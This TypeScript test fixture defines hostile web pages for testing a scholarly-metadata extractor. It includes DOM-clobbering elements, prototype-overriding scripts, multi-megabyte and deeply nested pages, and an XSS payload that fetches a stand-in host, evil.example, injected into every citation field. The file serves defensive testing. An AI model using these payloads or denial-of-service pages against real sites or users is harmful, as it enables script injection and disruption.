/** Pages that try to break, fool or outlast the reader. Their scripts run, as they would on the web. */
import { articlePage } from './article-page.ts';

export interface HostilePage {
  name: string;
  /** Made when asked for: some are tens of megabytes, beyond the eight million letters that are copied. */
  html(): string;
  /** The title that must be saved; null: nothing may be saved. */
  saved: string | RegExp | null;
  /** So large that a machine at work on other things ends the reading, with a sentence: then nothing is saved. */
  large?: true;
}

const TITLE = 'Quiet rooms in busy wards';
const METAS: [string, string][] = [
  ['citation_title', TITLE],
  ['citation_author', 'Berg, Tone'],
  ['citation_author', 'Holm, Arne'],
  ['citation_journal_title', 'Journal of Plain Examples'],
  ['citation_publication_date', '2019/06/01'],
  ['citation_volume', '12'],
  ['citation_firstpage', '3'],
  ['citation_lastpage', '19'],
  ['citation_doi', '10.5555/plain.12.3'],
];
const ABSTRACT =
  'Rooms without screens were offered on four wards. Most patients who used them slept longer and calmer for it.';
const article = articlePage(METAS, ABSTRACT);
const withTitle = (title: string): string =>
  articlePage(
    METAS.map(([name, value]) => [name, name === 'citation_title' ? title : value]),
    ABSTRACT,
  );
const inHead = (markup: string): string => article.replace('</head>', `${markup}</head>`);
const inBody = (markup: string): string => article.replace('</body>', `${markup}</body>`);
const script = (code: string): string => `<script>${code}</script>`;
const ATTACK = '<img src=x onerror="fetch(`https://evil.example/`);document.title=`owned`">';

/** Elements that bear the names of the DOM's own properties. */
const named = (tag: string, names: readonly string[]): string =>
  names.map(name => `<${tag} name="${name}">`).join('');
const quoted = (html: string): string => html.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const markedPaper = (n: number): string =>
  `<div itemscope itemtype="https://schema.org/ScholarlyArticle">
    <h2 itemprop="name">Paper ${n}</h2><span itemprop="author">Author ${n}</span></div>`;

export const hostilePages: HostilePage[] = [
  {
    name: 'names of elements shadow the DOM (clobbering)',
    saved: TITLE,
    html: () =>
      inBody(
        `${named('img', ['querySelector', 'querySelectorAll', 'title', 'body', 'documentElement'])}
      <form name="head">
        ${named('input', ['children', 'attributes', 'getAttribute', 'firstChild', 'textContent'])}
      </form><form id="defaultView"></form>`,
      ),
  },
  {
    name: 'a form stands in the place of the page, with inputs that bear the names of what is asked',
    saved: TITLE,
    html: () =>
      inBody(
        script(`
        const form = document.createElement('form');
        const names = ['getHTML', 'attributes', 'getElementsByTagName', 'localName', 'firstChild', 'nextSibling'];
        for (const name of [...names, 'contentType', 'readyState', 'nodeType', 'parentNode', 'hasAttributes']) {
          const input = document.createElement('input');
          input.name = name;
          form.append(input);
        }
        const root = document.documentElement;
        form.append(...root.childNodes);
        document.replaceChild(form, root);`),
      ),
  },
  {
    name: 'images that bear the names of a document',
    saved: TITLE,
    html: () => inBody(named('img', ['contentType', 'readyState', 'documentElement', 'createTreeWalker'])),
  },
  {
    name: 'four hundred thousand elements in boxes in boxes, more than are copied',
    large: true,
    saved: TITLE,
    html: () => {
      const box = `<div title="&quot;a&quot; &amp; b">c &lt; d${'<i></i>'.repeat(500)}</div>`;
      return inBody(`${'<div>'.repeat(50)}${box.repeat(830)}`);
    },
  },
  {
    name: 'a field of a million blanks',
    saved: TITLE,
    html: () => inBody(`<textarea>${' '.repeat(1_000_000)}x</textarea>`),
  },
  {
    name: 'a line of names that can be taken apart in as many ways as there are atoms',
    saved: null,
    html: () =>
      `<!doctype html><title>Parish paper - start</title><p>Volume 2<p>Hymns<p>By ${'C D and '.repeat(60)}E F *<p>end`,
  },
  {
    name: 'prototypes overridden by the page',
    saved: TITLE,
    html: () =>
      inHead(
        script(`
        const gotcha = () => { throw new Error('gotcha'); };
        const read = ['querySelector', 'querySelectorAll', 'getAttribute', 'textContent', 'firstChild', 'title'];
        for (const proto of [Element.prototype, Document.prototype, Node.prototype])
          for (const key of read)
            try { Object.defineProperty(proto, key, { get: gotcha, configurable: true }); } catch {}
        Array.prototype.map = Array.prototype.push = String.prototype.replace = JSON.parse = gotcha;
        Object.prototype.citation_title = 'polluted';`),
      ),
  },
  {
    name: 'three hundred thousand elements, more than are read',
    large: true,
    saved: TITLE,
    html: () => inBody('<i></i>'.repeat(300_000)),
  },
  {
    name: 'twenty megabytes of JSON-LD',
    large: true,
    saved: TITLE,
    html: () =>
      inHead(
        `<script type="application/ld+json">{"@type":"ScholarlyArticle","name":"${'x'.repeat(20_000_000)}"}</script>`,
      ),
  },
  {
    name: 'images of thirty megabytes written into the page',
    large: true,
    saved: TITLE,
    html: () =>
      article.replace(
        '<body>',
        `<body>${`<img alt="" src="data:image/png;base64,${'A'.repeat(3_000_000)}">`.repeat(10)}`,
      ),
  },
  {
    name: 'three million openings of drawings that never end',
    large: true,
    saved: TITLE,
    html: () => inBody(`<!-- ${'<svg '.repeat(3_000_000)} -->`),
  },
  {
    name: 'JSON-LD nested a hundred thousand deep',
    saved: TITLE,
    html: () =>
      inHead(
        `<script type="application/ld+json">${'{"isPartOf":'.repeat(100_000)}1${'}'.repeat(100_000)}</script>`,
      ),
  },
  {
    name: 'elements nested a hundred thousand deep',
    large: true,
    saved: TITLE,
    html: () => inBody(`${'<div>'.repeat(100_000)}deep`),
  },
  {
    name: 'fifty thousand metas',
    saved: TITLE,
    html: () =>
      inHead(
        '<meta name="citation_reference" content="citation_title=Another; citation_author=Somebody">'.repeat(
          50_000,
        ),
      ),
  },
  {
    name: 'a title of a megabyte',
    saved: /^Quiet( rooms){10}/,
    html: () => withTitle(`Quiet${' rooms'.repeat(170_000)}`),
  },
  {
    name: 'text that turns and hides (bidi, zero width)',
    saved: TITLE,
    html: () => withTitle('Quiet\u200B ro\u00ADoms\u202E\u2066 in busy\uFEFF wards\u2069\u202C'),
  },
  {
    name: 'script in every field',
    saved: /^Quiet/,
    html: () =>
      articlePage(
        METAS.map(([name, value]) => [name, name === 'citation_doi' ? value : `${value} ${ATTACK}`]),
        `${ABSTRACT} ${ATTACK}`,
      ),
  },
  {
    name: 'a page that removes itself',
    saved: null,
    html: () => inBody(script('document.documentElement.remove()')),
  },
  {
    name: 'a page that empties itself again and again',
    saved: null,
    html: () => inBody(script('setInterval(() => document.documentElement.replaceChildren(), 1)')),
  },
  {
    name: 'a paper in a frame of a page that is none',
    saved: null,
    html: () =>
      `<!doctype html><title>Frames</title><p>Nothing here.<iframe srcdoc="${quoted(article)}"></iframe>`,
  },
  {
    name: 'shadow roots in shadow roots, deep down, and one with half a million elements',
    large: true,
    saved: TITLE,
    html: () =>
      inBody(
        script(`
        const rootIn = place => place.appendChild(document.createElement('x-root')).attachShadow({ mode: 'open' });
        let place = document.body;
        for (let depth = 0; depth < 300; depth++) place = rootIn(place);
        rootIn(document.body).innerHTML = '<i></i>'.repeat(500_000);`),
      ),
  },
  {
    name: 'a page that never finishes loading',
    saved: TITLE,
    html: () => inBody('<img src="/never.png"><iframe src="/never.html"></iframe>'),
  },
  {
    name: 'a thousand papers in one page',
    saved: null,
    html: () =>
      [
        '<!doctype html><title>All of them</title>',
        ...Array.from({ length: 1000 }, (_, n) => markedPaper(n)),
      ].join(''),
  },
];
